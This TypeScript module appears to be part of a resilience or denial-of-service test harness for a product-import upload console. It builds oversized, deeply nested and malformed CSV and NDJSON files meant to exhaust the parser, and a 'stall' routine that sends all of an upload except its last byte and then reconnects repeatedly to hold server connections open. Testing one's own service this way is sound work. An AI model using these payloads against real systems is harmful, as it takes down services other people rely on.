/** Files of one user that are as expensive to read as their size allows. */
import { connect } from 'node:net'
import { openConsole } from '../../test/support/console.ts'
import type { Target } from './attacks.ts'

const path = '/console/products/import'
const type = 'multipart/form-data; boundary=edge'
const maxBytes = 8 * 1024 * 1024
const header = 'name,description,price\n'

interface UploadedText {
  name: string
  text: string
  act: 'preview' | 'import'
}

const fill = (text: string, bytes = maxBytes - 1000) => text.repeat(Math.floor(bytes / text.length))
const preview = (name: string, text: string): UploadedText => ({ name, text, act: 'preview' })

export const files: readonly UploadedText[] = [
  preview('commas.csv', header + fill(',')),
  preview('wide-rows.csv', header + fill(`${','.repeat(16_000)}\n`)),
  preview('bad-quotes.csv', header + fill('"a" b,c,1\n', 95_000)),
  preview('open-quotes.csv', header + fill(`"${fill('a,b,1\n', 1024 * 1024)}`)),
  preview('deep.ndjson', fill(`{"name":${'['.repeat(50_000)}${']'.repeat(50_000)}}\n`)),
  preview('wide.ndjson', fill(`{"name":[${'{},'.repeat(300_000)}{}]}\n`)),
  preview('keys.ndjson', fill(`{${Array.from({ length: 16_000 }, (_, i) => `"k${i}":1e99`).join()}}\n`)),
  preview('products.csv', header + fill('Kettle,"Two ""good"" lines",20\n')),
]

export interface Uploads {
  send(i: number): Promise<unknown>
  /** Sends all of a file but its last byte, again and again. */
  stall(): void
}

export async function createUploads(target: Target): Promise<Uploads> {
  const browser = openConsole(target)
  await browser.signIn(target.email, target.password)
  const { _token = '' } = (await browser.open(path)).hidden(path)
  const encoded = files.map(({ name, text, act }) => {
    const fields = { _token, act }
    const parts = Object.entries(fields).map(
      ([field, value]) => `--edge\r\nContent-Disposition: form-data; name="${field}"\r\n\r\n${value}\r\n`,
    )
    const file = `--edge\r\nContent-Disposition: form-data; name="file"; filename="${name}"\r\n\r\n${text}\r\n--edge--\r\n`
    return Buffer.from(parts.join('') + file)
  })
  const cookies = [...browser.cookies].map(([name, { value }]) => `${name}=${value}`).join('; ')

  function stall(): void {
    const { hostname, port } = new URL(target.url)
    const body = encoded[0] as Buffer
    const socket = connect(Number(port), hostname)
    socket.on('error', () => {})
    socket.on('close', stall)
    socket.write(
      `POST ${path} HTTP/1.1\r\nHost: ${hostname}\r\nCookie: ${cookies}\r\nContent-Type: ${type}\r\nContent-Length: ${body.length}\r\n\r\n`,
    )
    socket.write(body.subarray(0, -1))
  }
  return { send: (i) => browser.postRaw(path, encoded[i % encoded.length] as Buffer, type), stall }
}
